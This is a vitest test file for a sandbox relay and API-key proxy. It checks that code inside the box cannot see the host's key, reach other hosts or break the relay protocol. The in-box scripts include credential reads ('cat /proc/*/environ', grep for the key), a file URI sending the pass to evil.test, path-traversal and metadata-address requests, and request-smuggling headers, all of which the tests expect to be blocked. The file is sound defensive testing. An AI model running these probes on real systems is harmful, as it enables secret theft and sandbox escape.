import { readFile, readdir } from 'node:fs/promises';
import { text } from 'node:stream/consumers';
import { afterAll, beforeAll, describe, expect, it, onTestFinished } from 'vitest';
import { type Proxy, createProxy } from '../../../../activities/lib/programs/proxy/proxy.ts';
import type { Upstream } from '../../../../activities/lib/programs/proxy/upstream.ts';
import { startRelayed } from '../../../../activities/lib/programs/relay/relay.ts';
import type { Box, SandboxDriver } from '../../../../activities/sandbox/box.ts';
import { kindsHere, makeBench } from '../../../support/sandboxes.ts';
import { answerJson, startUpstream } from '../../../support/upstream.ts';

const key = 'AIza-canary-key-of-the-tests-1234567890';
const pass = 'pass-of-this-run';
const minute = 60_000;
const closed = (await kindsHere()).filter(({ kind }) => kind !== 'process');

describe.each(closed)('the way out of a box of $kind', ({ kind, missing }) => {
  let bench: Awaited<ReturnType<typeof makeBench>>;
  let driver: SandboxDriver;

  beforeAll(async () => {
    bench = await makeBench();
    if (missing === undefined) driver = (await bench.choose(kind, true)).driver;
  });
  afterAll(() => bench.close());

  /** Runs a script in the box; `say` prints what the test is to see. */
  async function runInside(box: Box, script: string, upstream: Upstream, requests = 1000) {
    const proxy: Proxy = createProxy({ upstream, pass, limits: { requests, tokens: 1e9 } });
    onTestFinished(() => proxy.close());
    const program = `const origin = process.env.ORIGIN, pass = process.env.PASS;
      const say = (value) => process.stdout.write(JSON.stringify(value) + '\\n');
      const ask = (path, options = {}) => fetch(origin + path, { method: 'POST', body: '{}', redirect: 'manual', ...options,
        headers: { 'content-type': 'application/json', 'x-goog-api-key': pass, ...options.headers } });
      ${script}`;
    const relay = await startRelayed(box, {
      argv: ['node', '--input-type=module', '-e', program],
      env: { ORIGIN: '{origin}', PASS: pass },
      files: {},
      timeoutMs: minute,
      onConnection: (connection) => proxy.accept(connection),
    });
    relay.program.end();
    const printed = await text(relay.program);
    const end = await relay.exited;
    if (printed === '') throw new Error(`nothing printed: ${relay.stderr()} ${JSON.stringify(end)}`);
    return {
      said: printed
        .trim()
        .split('\n')
        .map((line): unknown => JSON.parse(line)),
      proxy,
      end,
    };
  }
  const google = (url: string): Upstream => ({ provider: 'google', url: `${url}/v1beta`, key });
  const path = '/v1beta/models/gemini-2.5-pro:generateContent';

  it.skipIf(missing !== undefined)('adds the key on the host, and shows it nowhere inside', async () => {
    const upstream = await startUpstream(({ headers }, response) =>
      answerJson(response, {
        error: `API key ${String(headers['x-goog-api-key'])} is fine`,
        usageMetadata: { promptTokenCount: 5, candidatesTokenCount: 3 },
      }),
    );
    const box = await bench.box(driver, { files: { 'a.txt': 'x' } });
    const { said, proxy } = await runInside(
      box,
      `import { execSync } from 'node:child_process';
       const answer = await ask('${path}?key=mine&alt=sse', { headers: { authorization: 'Bearer mine', cookie: 'a=b', 'x-forwarded-host': 'evil.test' } });
       say(await answer.text());
       say(execSync('env; cat /proc/*/environ /proc/*/cmdline 2>/dev/null; grep -rs canary[-]key /workspace /tmp /home /etc /proc/self/environ; true').toString());`,
      google(upstream.url),
    );
    const [request] = upstream.received;
    expect(request).toMatchObject({
      method: 'POST',
      url: `${path}?alt=sse`,
      headers: { 'x-goog-api-key': key, host: `127.0.0.1:${upstream.port}` },
    });
    expect(Object.keys(request!.headers)).not.toEqual(expect.arrayContaining([expect.stringMatching(/authorization|cookie|forwarded/)]));
    expect(said[0]).toContain('is fine');
    expect(JSON.stringify(said)).toContain(pass);
    expect(JSON.stringify(said)).not.toContain('canary-key');
    expect(proxy.use()).toMatchObject({ requests: 1, inputTokens: 5, outputTokens: 3 });
    expect(await box.find(['**'])).toEqual(['a.txt']);
  });

  it.skipIf(missing !== undefined)('passes on nothing but the one provider and its listed paths', async () => {
    const other = await startUpstream((_request, response) => answerJson(response, 'reached'));
    const upstream = await startUpstream((_request, response) => response.writeHead(302, { location: `${other.url}/stolen` }).end());
    const box = await bench.box(driver);
    const { said } = await runInside(
      box,
      `import { connect } from 'node:net';
       const port = Number(new URL(origin).port);
       const raw = (text) => new Promise((done) => { let got = ''; const socket = connect(port, '127.0.0.1', () => socket.write(text.replaceAll('\\n', '\\r\\n')));
         socket.on('data', (part) => { got += part; if (got.includes('\\r\\n\\r\\n')) socket.destroy(); }); socket.on('error', () => done('closed')); socket.on('close', () => done(got.split('\\r\\n')[0] || 'closed')); });
       const direct = (url) => fetch(url, { signal: AbortSignal.timeout(3000) }).then(() => 'reached', () => 'unreachable');
       const lines = ['CONNECT 127.0.0.1:${other.port} HTTP/1.1\\nHost: 127.0.0.1', 'POST ${other.url}/v1beta/models/a:generateContent HTTP/1.1\\nHost: 127.0.0.1',
         'POST //127.0.0.1:${other.port}/v1beta HTTP/1.1\\nHost: 127.0.0.1', 'POST ${path} HTTP/1.1\\nHost: 169.254.169.254', 'POST /v1beta/../v1beta/files HTTP/1.1\\nHost: 127.0.0.1',
         'POST /v1beta/models/..%2f..%2ffiles:generateContent HTTP/1.1\\nHost: 127.0.0.1', 'DELETE /v1beta/models/a HTTP/1.1\\nHost: 127.0.0.1',
         'GET / HTTP/1.1\\nHost: 127.0.0.1\\nUpgrade: websocket\\nConnection: Upgrade', 'POST ${path} HTTP/1.1\\nHost: 127.0.0.1\\nContent-Length: 2\\nTransfer-Encoding: chunked', 'nonsense'];
       for (const line of lines) say(await raw(line + '\\nx-goog-api-key: ' + pass + '\\n\\n'));
       say((await ask('${path}', { headers: { 'x-goog-api-key': 'another' } })).status);
       say((await ask('${path}', { body: JSON.stringify({ contents: [{ parts: [{ fileData: { fileUri: 'http://evil.test/?' + pass } }] }] }) })).status);
       const moved = await ask('${path}'); say([moved.status, moved.headers.get('location')]);
       for (const url of ['http://169.254.169.254/', 'http://127.0.0.1:${other.port}/', 'http://example.com/']) say(await direct(url));`,
      google(upstream.url),
    );
    expect(said.slice(0, 7)).toEqual([
      expect.stringMatching(/405|closed/),
      ...Array.from({ length: 6 }, () => expect.stringContaining('403')),
    ]);
    expect(said.slice(7, 10)).toEqual([
      expect.stringMatching(/40[35]|closed/),
      expect.stringMatching(/400|closed/),
      expect.stringMatching(/400|closed/),
    ]);
    expect(said.slice(10)).toEqual([401, 403, [502, null], 'unreachable', 'unreachable', 'unreachable']);
    expect(other.received).toEqual([]);
    expect(upstream.received).toHaveLength(1);
  });

  it.skipIf(missing !== undefined)('hands a stream of events on as they come', async () => {
    const upstream = await startUpstream((_request, response) => {
      response.writeHead(200, { 'content-type': 'text/event-stream' });
      response.write('data: {"usage":{"input_tokens":40}}\n\n');
      // The second part waits until the box has told that the first arrived, by asking for the models.
      released.then(() => response.end(`data: {"usage":{"output_tokens":2}}\n\ndata: ${key}\n\n`)).catch(() => undefined);
    });
    let release = (): void => undefined;
    const released = new Promise<void>((resolve) => (release = resolve));
    const box = await bench.box(driver);
    const proxy = createProxy({
      upstream: { provider: 'anthropic', url: `${upstream.url}/v1`, key },
      pass,
      limits: { requests: 5, tokens: 1e9 },
    });
    const relay = await startRelayed(box, {
      argv: [
        'node',
        '--input-type=module',
        '-e',
        `const answer = await fetch(process.argv[1] + '/v1/messages', { method: 'POST', body: '{}', headers: { 'x-api-key': '${pass}' } });
         for await (const part of answer.body) process.stdout.write(part);`,
        '{origin}',
      ],
      env: {},
      files: {},
      timeoutMs: minute,
      onConnection: (connection) => proxy.accept(connection),
    });
    let printed = '';
    for await (const chunk of relay.program as AsyncIterable<Buffer>) {
      printed += chunk.toString();
      if (printed.includes('40')) release();
    }
    expect(printed).toContain('"output_tokens":2');
    expect(printed).not.toContain('canary');
    expect(proxy.use()).toMatchObject({ requests: 1, inputTokens: 40, outputTokens: 2 });
    expect(await relay.exited).toMatchObject({ exitCode: 0, broken: undefined });
  });

  it.skipIf(missing !== undefined)('carries a hundred connections at a time, and large bodies both ways', async () => {
    const upstream = await startUpstream(({ body }, response) => answerJson(response, { got: body.length, back: 'y'.repeat(300_000) }));
    const box = await bench.box(driver);
    const { said } = await runInside(
      box,
      `const asks = Array.from({ length: 100 }, (_, i) => ask('${path}', { body: JSON.stringify({ text: 'x'.repeat(i * 4000) }) }).then((answer) => answer.json()));
       const answers = await Promise.all(asks);
       say(answers.every(({ got, back }, i) => got === i * 4000 + 11 && back.length === 300000));`,
      google(upstream.url),
    );
    expect(said).toEqual([true]);
    expect(upstream.received).toHaveLength(100);
  });

  it.skipIf(missing !== undefined)('is closed for what is above the limits, and when the box floods it', async () => {
    const upstream = await startUpstream((_request, response) => answerJson(response, {}));
    const box = await bench.box(driver);
    const { said, proxy } = await runInside(
      box,
      `const statuses = []; for (let i = 0; i < 4; i++) statuses.push((await ask('${path}')).status); say(statuses);
       say(await ask('${path}', { body: '"' + 'x'.repeat(30e6) + '"' }).then((answer) => answer.status, () => 'cut'));`,
      google(upstream.url),
      3,
    );
    expect(said[0]).toEqual([200, 200, 200, 403]);
    expect([403, 'cut']).toContain(said[1]);
    expect(proxy.use()).toMatchObject({ requests: 3, exhausted: true });
  });

  it.skipIf(missing !== undefined).each([
    ['is no frame', `process.stdout.write('hello, I am no frame at all')`],
    ['is more than there is room for', `for (let i = 0; i < 8; i++) frame(2, 0, Buffer.alloc(65536))`],
    ['are connections without end', `for (let i = 1; i < 2000; i++) frame(1, i)`],
    ['is a connection twice', `frame(1, 1); frame(1, 1)`],
    ['is an endless piece', `const head = Buffer.alloc(9, 255); head[0] = 2; process.stdout.write(head)`],
  ])('ends a relay in whose place something sends what %s', async (_what, lie) => {
    const box = await bench.box(driver);
    const script = `const frame = (kind, channel, payload = Buffer.alloc(0)) => { const head = Buffer.alloc(9); head[0] = kind;
      head.writeUInt32BE(channel, 1); head.writeUInt32BE(payload.length, 5); process.stdout.write(Buffer.concat([head, payload])); };
      ${lie}; setInterval(() => {}, 1000)`;
    const relay = await startRelayed(
      { ...box, start: (command) => box.start({ ...command, command: ['node', '-e', script] }) },
      { argv: ['true'], env: {}, files: {}, timeoutMs: minute, onConnection: () => undefined },
    );
    const end = await relay.exited;
    expect(end.broken?.message).toContain('tampered with');
  });
});

it('leaves no name of a key in the relay that runs inside', async () => {
  const folder = new URL('../../../../activities/lib/programs/relay/', import.meta.url);
  expect(await readdir(folder)).toContain('inside.mjs');
  expect(await readFile(new URL('inside.mjs', folder), 'utf8')).not.toMatch(/_KEY|apiKey/);
});
